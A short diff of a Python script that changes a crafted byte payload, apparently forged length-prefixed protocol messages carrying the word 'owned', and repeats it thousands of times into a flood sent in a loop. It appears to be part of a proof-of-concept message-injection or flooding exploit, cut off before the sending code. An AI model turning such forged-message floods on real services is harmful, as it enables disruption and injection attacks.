@@ -1,6 +1,6 @@
 import os
 
-DONE_AND_MORE = b"\x0d\0\0\0\0" + b"\x0c\5\0\0\0owned" + b"\x01\0\0\0\0"
+DONE_AND_MORE = b"\1\0\0\0\x0e\0\0\0\0\0" + b"\1\0\0\0\x0d\0\6\0\0\0\5owned"
 flood = DONE_AND_MORE * 5000
 for _ in range(200):
     sent = 0
